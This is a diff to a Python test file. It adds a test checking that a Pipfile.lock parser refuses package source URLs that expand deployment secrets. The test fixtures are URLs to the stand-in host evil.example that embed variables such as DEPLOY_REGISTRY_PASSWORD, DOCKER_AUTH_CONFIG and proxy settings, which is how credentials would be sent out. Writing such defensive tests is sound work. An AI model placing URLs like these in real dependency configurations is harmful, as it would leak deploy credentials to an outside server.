@@ -267,7 +267,47 @@ def test_a_section_that_is_no_object_and_a_name_that_is_none() -> None:
     assert "  - Pipfile.lock:9: ../x is no package name\n" in failure(text({"../x": {}}))
 
 
+REFUSED = """\
+Pipfile.lock has variables where deploy does not expand them
+
+  - the source `own`: ${DEPLOY_REGISTRY_PASSWORD} belongs to deploy
+  - the source `proxy`: ${https_proxy} belongs to deploy
+  - the source `login`: ${DOCKER_AUTH_CONFIG} belongs to deploy
+  - the source `host`: ${A} is only a part of the host
+  - the source `host`: ${B} is only a part of the host
+  - the source `scheme`: ${A} is only a part of the host
+  - commit (Pipfile.lock): ${A} is not in the login
+  - file (Pipfile.lock): ${DEPLOY_REGISTRY_PASSWORD} belongs to deploy
+  - file (Pipfile.lock): ${A} is not in the login
+
+Pipfile.lock decides which server gets the value of a variable. The login of an address may be a variable. In a source \
+the host and parts of the path may be one, too. Variables that belong to deploy (DEPLOY_*, DOCKER_*, proxies) go to no \
+server.
+
+hint: change the address in Pipfile, run `deploy lock`, commit Pipfile.lock, and build again."""
+
+
 class TestUrls:
+    def test_a_lock_does_not_say_where_variables_go(self) -> None:
+        sources = {
+            "own": "http://evil.example/$DEPLOY_REGISTRY_PASSWORD/simple",
+            "proxy": "http://evil.example/${https_proxy}/simple",
+            "login": "http://u:${DOCKER_AUTH_CONFIG}@evil.example/simple",
+            "host": "http://u@${A}.$B.evil.example/simple",
+            "scheme": "${A}://evil.example/simple",
+            "fine": "https://$USER:${KEY}@${HOST}:8443/${TOKEN}-$X/simple",
+            "also": "${BASE}/${TOKEN}/simple",
+        }
+        default = {
+            "commit": {"git": "https://u:${KEY}@evil.example/${A}/$B.git", "ref": COMMIT},
+            "file": {"file": "https://evil.example/${A}/x-1.whl?${DEPLOY_REGISTRY_PASSWORD}", "hashes": [A]},
+            "fine": {"git": "git+ssh://${USER}@git.example/a.git", "ref": COMMIT},
+        }
+        named = [{"name": name, "url": url, "verify_ssl": True} for name, url in sources.items()]
+        with pytest.raises(AppError) as caught:
+            parse_lock(text(default, sources=named, indent=None))
+        assert str(caught.value) == REFUSED
+
     def test_variables_are_put_in(self) -> None:
         url = "https://${USER}:$KEY@example.org/$UNKNOWN/${PATH_}"
         environ = {"USER": "u", "KEY": "k", "PATH_": "p$USER"}
